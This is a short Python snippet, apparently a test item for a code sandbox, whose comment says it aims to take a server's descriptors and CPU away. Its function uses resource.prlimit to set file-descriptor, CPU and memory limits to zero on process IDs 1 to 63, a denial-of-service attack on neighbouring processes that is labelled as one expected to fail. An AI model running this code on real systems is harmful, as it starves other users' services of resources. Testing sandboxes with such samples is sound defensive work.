# why: Take the server's descriptors and CPU away with prlimit, which asks for nothing but the same uid.
# allow: failed
import resource
def f(x):
    for pid in range(1, 64):
        for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
            try:
                resource.prlimit(pid, limit, (0, 0))
            except (OSError, ValueError):
                pass
    return 0
